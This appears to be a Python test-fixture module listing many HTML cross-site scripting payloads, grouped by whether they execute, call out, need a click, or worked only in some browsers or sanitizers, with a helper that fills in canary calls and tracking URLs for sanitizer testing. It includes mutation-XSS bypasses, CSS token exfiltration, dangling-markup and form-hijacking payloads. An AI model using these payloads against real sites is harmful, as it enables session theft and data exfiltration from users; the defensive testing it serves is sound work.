"""Documents that try to run something in whoever reads them, to call somebody, or to take the page.

RUN stands for a call that is noticed, URL, HOST and DATA for addresses of somebody who notices: see
`filled`. RUNS, CALLS and CLICKED do so in a page without our defences, by themselves or when they
are clicked, as a test shows. OTHERS did in some browser, or in some sanitiser.
"""

from base64 import b64encode

# An image of one point.
POINT = "data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA="
BROKEN = "<img src=x onerror=RUN>"

RUNS = {
    "script": "<script>RUN</script>",
    "script in odd letters": "<ScRiPt\t>RUN</sCrIpT\n>",
    "script with a slash": "<script/x>RUN</script/>",
    "module": "<script type=module>RUN</script>",
    "script of data": "<script src='data:text/javascript,RUN'></script>",
    "script in a table": "<table><tr><script>RUN</script><td>words</table>",
    "script in a list of options": "<select><option>words<script>RUN</script></select>",
    "script in svg": "<svg><script>RUN</script></svg>",
    "script in svg, by entities": "<svg><script>&#99;anary&#40;NUMBER&#41;</script></svg>",
    "script in math": "<math><mtext><script>RUN</script></mtext></math>",
    "svg": "<svg onload=RUN>",
    "svg with slashes": "<svg/x='y'/onload=RUN>",
    "svg animation": "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "svg set": "<svg><set onbegin=RUN attributeName=x to=1>",
    "svg foreign object": f"<svg><foreignObject>{BROKEN}</foreignObject></svg>",
    "svg title": f"<svg><title>{BROKEN}</title></svg>",
    "math text": f"<math><mtext>{BROKEN}</mtext></math>",
    "math annotation": f"<math><annotation-xml encoding=text/html>{BROKEN}</math>",
    "image": BROKEN,
    "image with slashes": "<img/src='x'/onerror=RUN>",
    "image in odd letters": '<IMG """><iMg SrC="x" oNeRrOr="RUN">',
    "image between lines": "<img\n\f\rsrc=x\tonerror\n=\nRUN>",
    "image by entities": "<img src=x onerror=&#x63;anary&lpar;NUMBER&rpar;>",
    "image by its old name": "<image src=x onerror=RUN>",
    "image that is there": f"<img src={POINT} onload=RUN>",
    "image in a quotation": f"<p title='\">{BROKEN}'></p>{BROKEN}",
    "video source": "<video><source onerror=RUN src=x></video>",
    "video": "<video src=x onerror=RUN></video>",
    "audio": "<audio src=x onerror=RUN></audio>",
    "body": "<body onload=RUN>",
    "body in odd places": "<table><body onload=RUN><td>words",
    "details": "<details open ontoggle=RUN><summary>words</summary></details>",
    "input": "<input autofocus onfocus=RUN>",
    "text area": "<textarea autofocus onfocus=RUN></textarea>",
    "selection": "<select autofocus onfocus=RUN></select>",
    "what cannot be typed in": "<b tabindex=1 autofocus onfocus=RUN>words</b>",
    "element of no kind": "<x-y tabindex=1 autofocus onfocus=RUN>words</x-y>",
    "contenteditable": "<p contenteditable autofocus onfocus=RUN>words</p>",
    "animation": (
        "<style>@keyframes k{}</style><p style='animation:k 1s' onanimationstart=RUN>words"
    ),
    "frame with a document": "<iframe srcdoc='<script>RUN</script>'></iframe>",
    "frame with a document by entities": "<iframe srcdoc='&lt;svg onload=RUN&gt;'></iframe>",
    "frame with a script": "<iframe src='javascript:RUN'></iframe>",
    "frame with a script in pieces": "<iframe src=' java&Tab;scr&NewLine;ipt&colon;RUN'></iframe>",
    "frame with data": "<iframe src='data:text/html,<script>RUN</script>'></iframe>",
    "frame with encoded data": "<iframe src='DATA'></iframe>",
    "frame": "<iframe onload=RUN></iframe>",
    "object": "<object data='DATA'></object>",
    "embedded": "<embed src='DATA'>",
    "end of noscript": f"<noscript><p title='</noscript>{BROKEN}'></noscript>",
    "end of xmp": f"<xmp><p title='</xmp>{BROKEN}'></xmp>",
    "end of a text area": f"<textarea><p title='</textarea>{BROKEN}'>",
    "end of a title": f"<title><p title='</title>{BROKEN}'>",
    "end of a style": f"<style><p title='</style>{BROKEN}'>",
    "end of a frame": f"<iframe><p title='</iframe>{BROKEN}'>",
    "end of noembed": f"<noembed><p title='</noembed>{BROKEN}'>",
    "end of noframes": f"<noframes><p title='</noframes>{BROKEN}'>",
    "end of a script": f"<script>'</script>{BROKEN}'</script>",
    "end of an odd comment": f"<!-->{BROKEN}-->",
    "end of another odd comment": f"<!--->{BROKEN}-->",
    "comment ended by a bang": f"<!-- --!>{BROKEN}-->",
    "comment in an attribute": f"<!--<img alt='-->{BROKEN}'>",
    "comment of Explorer": f"<!--[if gte IE 4]>-->{BROKEN}<!--<![endif]-->",
    "question mark": f"<?import><?php '>{BROKEN}' ?>",
    "cdata that is a comment": f"<![CDATA[>{BROKEN}]]>",
    "end of nothing": f"</p/x={BROKEN}</ x>{BROKEN}",
    "shadow": f"<div><template shadowrootmode=open>{BROKEN}</template></div>",
    "search": f"<search><selectedcontent>{BROKEN}",
    "script in a Japanese code": "\x1b$@<img alt='\x1b(B' src=x onerror=RUN>",
    "mutation by svg": "<svg></p><style><a id='</style><img src=1 onerror=RUN>'>",
    "mutation by nested tables": (
        "<math><mi></mi></math><table><tr><td><math><mtext><table></table><mglyph><svg><mtext>"
        "<textarea><path id='</textarea><img onerror=RUN src=1>'>"
    ),
    "mutation by noscript": "<noscript><style></noscript><img src=x onerror=RUN></style>",
    "mutation by a comment": "<svg><![CDATA[--><img src=x onerror=RUN>]]></svg>",
}

CLICKED = {
    "link": "<a href='javascript:RUN'>words</a>",
    "link in odd letters": "<a href='JaVaScRiPt:RUN'>words</a>",
    "link by entities": "<a href='&#x6A;avascript&colon;RUN'>words</a>",
    "link in pieces": "<a href='java&#10;scr&#9;ipt:RUN'>words</a>",
    "link after a control character": "<a href='&#1; javascript:RUN'>words</a>",
    "link with a comment": "<a href='javascript://%0aRUN'>words</a>",
    "link in svg": "<svg><a xlink:href='javascript:RUN'><text y=20>words</text></a></svg>",
    "link changed in svg": (
        "<svg><a><animate attributeName=href values='javascript:RUN'/><text y=20>words</text></a>"
    ),
    "form": "<form action='javascript:RUN'><button>words</button></form>",
    "button": "<form><button formaction='javascript:RUN'>words</button></form>",
    "handler": "<b onclick=RUN>words</b>",
    "handler of a pointer": "<p onpointerdown=RUN>words</p>",
    "popover": "<button popovertarget=p>words</button><i id=p popover onbeforetoggle=RUN>x</i>",
}

CALLS = {
    "script from elsewhere": "<script src=URL.js></script>",
    "script from elsewhere in svg": "<svg><script href=URL.js></script></svg>",
    "image from elsewhere": "<img src=URL.png>",
    "image without a scheme": "<img src=//HOST>",
    "image with the other slashes": "<img src='\\\\HOST'>",
    "images to choose from": "<img srcset='URL 1x, URL/2 2x'>",
    "picture": "<picture><source srcset=URL><img></picture>",
    "image in svg": "<svg><image href=URL width=9 height=9></svg>",
    "filter in svg": (
        "<svg><filter id=f><feImage href=URL></filter><rect filter=url(#f) width=9 height=9></svg>"
    ),
    "button of an image": "<input type=image src=URL>",
    "background of a body": "<body background=URL>",
    "background of a table": "<table background=URL><td>words</table>",
    "background of a cell": "<table><td background=URL>words</table>",
    "poster": "<video poster=URL></video>",
    "video from elsewhere": "<video src=URL autoplay muted></video>",
    "sound from elsewhere": "<audio src=URL preload=auto></audio>",
    "subtitles": (
        "<video src=data:video/mp4,x crossorigin><track src=URL default kind=captions></video>"
    ),
    "frame from elsewhere": "<iframe src=URL></iframe>",
    "object from elsewhere": "<object data=URL></object>",
    "embedded from elsewhere": "<embed src=URL>",
    "refresh": "<meta http-equiv=refresh content='0;url=URL'>",
    "base": "<base href=URL/><img src=x.png>",
    "style sheet": "<link rel=stylesheet href=URL.css>",
    "style sheet of data": "<link rel=stylesheet href='data:text/css,@import url(URL)'>",
    "style sheet in svg": "<svg><style>@import 'URL.css'</style></svg>",
    "preload": "<link rel=preload as=image href=URL>",
    "preloaded module": "<link rel=modulepreload href=URL.js>",
    "prefetch": "<link rel=prefetch href=URL>",
    "import of a style": "<style>@import url(URL.css)</style>words",
    "style never closed": "<style>@import url(URL.css);",
    "style that reads a form": (
        "<form><input name=token value=a1 size=3></form><style>input[name=token][value^=a]"
        "{background:url(URL/a)}</style>"
    ),
    "style that reads what the page has": (
        "<style>:root:has([lang]),:root:has(p){background:url(URL)}</style><p>words"
    ),
    "style of an element": "<p style='background:url(URL)'>words",
    "style by escapes": "<p style='b\\61 ckground:\\75rl(URL)'>words",
    "font": ("<style>@font-face{font-family:f;src:url(URL.woff)}p{font-family:f}</style><p>words"),
    "mark of a list": "<ul style='list-style:url(URL)'><li>words</ul>",
    "border": "<p style='border:9px solid;border-image:url(URL) 1'>words",
    "content": "<p style='content:url(URL)'>words",
    "set of images": "<p style='background:image-set(\"URL\" 1x)'>words",
    "mask": "<p style='mask:url(URL)'>words",
    "rules to fetch ahead": (
        '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["URL"]}]}</script>'
    ),
    "rest of the page in an address": "<img src='URL?<p>words'>",
}

CALLS_IF_CLICKED = {
    "link to elsewhere": "<a href=URL>words</a>",
    "link that tells": "<a href=#x ping=URL>words</a>",
    "form to elsewhere": "<form action=URL><input name=score value=1><button>words</button></form>",
    "end of our form": (
        "</article></div></main></form><form action=URL method=post><button>words</button>"
        "<textarea name=rest>"
    ),
    "button to elsewhere": "<form><button formaction=URL>words</button></form>",
    "form at a distance": "<form id=f action=URL></form><button form=f>words</button>",
    "link of an image map": (
        f"<img usemap=#m src={POINT} width=90 height=90>"
        "<map name=m><area shape=default href=URL>words</map>"
    ),
}

OTHERS = {
    "script in a script": "<scr<script>ipt>RUN</scr</script>ipt>",
    "script by entities": "&lt;script&gt;RUN&lt;/script&gt;",
    "script by entities twice": "&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;",
    "script in UTF-7": "<meta charset=utf-7>+ADw-script+AD4-RUN+ADw-/script+AD4-",
    "script in wide letters": "＜script＞RUN＜/script＞ ‹script›RUN‹/script›",
    "script between zero bytes": "<scr\0ipt>RUN</scr\0ipt><img src=x on\0error=RUN>",
    "script in a template": "<template><script>RUN</script></template>words",
    "mutation by math": (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;"
        "&lt;img src=1 onerror=RUN&gt;'>"
    ),
    "mutation by forms": (
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>"
    ),
    "mutation by depth": "<div>" * 600 + "<svg><style><a title='</style><img src onerror=RUN>'>",
    "mutation by an option": "<select><iframe></select><img src=x onerror=RUN></iframe>",
    "mutation by entities": "<p title='&lt;/p&gt;&lt;img src=x onerror=RUN&gt;'>words",
    "rest is text": "<plaintext>",
    "rest is a comment": "words <!--",
    "rest is an attribute": "words <p title='",
    "rest is an option": "<select><option>",
    "script without an end": "words <script>RUN\n</script ",
    "object that fails": "<object data=x: onerror=RUN></object>",
    "use in svg": "<svg><use href=URL#x></svg>",
    "preconnect": "<link rel=preconnect href=URL>",
    "address never ended": "<img src='URL?<p>words",
    "refresh never ended": "<meta http-equiv=refresh content='0;url=URL?<p>words",
    "expression": "<p style='width:expression(RUN);-moz-binding:url(URL);behavior:url(URL)'>words",
    "link of Basic": "<a href='vbscript:RUN'>words</a>",
    "link to data": "<a href='DATA'>words</a>",
    "names to look up": "<link rel=dns-prefetch href=//elsewhere.example>",
    "manifest and icon": "<link rel=manifest href=URL><link rel=icon href=URL>",
    "import of a page": "<link rel=import href=URL><link rel=prerender href=URL>",
    "fenced frame": "<fencedframe src=URL></fencedframe><portal src=URL></portal>",
    "frames": "<frameset onload=RUN><frame src=URL></frameset>",
    "applet": "<applet code=x archive=URL></applet><bgsound src=URL><keygen autofocus>",
    "style sheet of XML": "<?xml-stylesheet href='URL'?><?xml version='1.0'?>words",
    "policy": (
        "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'; style-src 'none'\">"
    ),
    "cookie": "<meta http-equiv=set-cookie content='worker=evil; path=/'>",
    "referrer": "<meta name=referrer content=unsafe-url>",
    "names of the page's own": (
        "<form id=page-form name=body><input name=score id=score value=666><input name=page>"
        "<input name=submit><input name=csrfmiddlewaretoken><img name=querySelector></form>"
        "<a id=document name=forms></a><p id=instructions class=answer>words"
    ),
    "cover": (
        "<style>body{display:none}*{pointer-events:none}</style>"
        "<div style='position:fixed;inset:0;z-index:99999;background:red'>words</div>"
    ),
    "dialog": "<dialog open>words</dialog><marquee>words</marquee><blink>words</blink>",
    "ends of everything": "</article></div></main></body></html></script></style></template>words",
    "slots": "<slot name=x></slot><p slot=x>words<x-y is=z></x-y>",
    "words of templates": "{{ 7|add:7 }} {% debug %} ${7*7} <%= 7 %> #{7} {{constructor}} words",
}

PAYLOADS = {**RUNS, **CLICKED, **CALLS, **CALLS_IF_CLICKED, **OTHERS}


def filled(text: str, number: int, url: str) -> str:
    """A payload that tells its number: in a call of `canary`, and in addresses below `url`."""
    run, address = f"canary({number})", f"{url}/{number}"
    data = b64encode(f"<script>{run}</script>".encode()).decode()
    return (
        text.replace("RUN", run)
        .replace("DATA", f"data:text/html;base64,{data}")
        .replace("URL", address)
        .replace("HOST", address.partition("//")[2])
        .replace("NUMBER", str(number))
    )
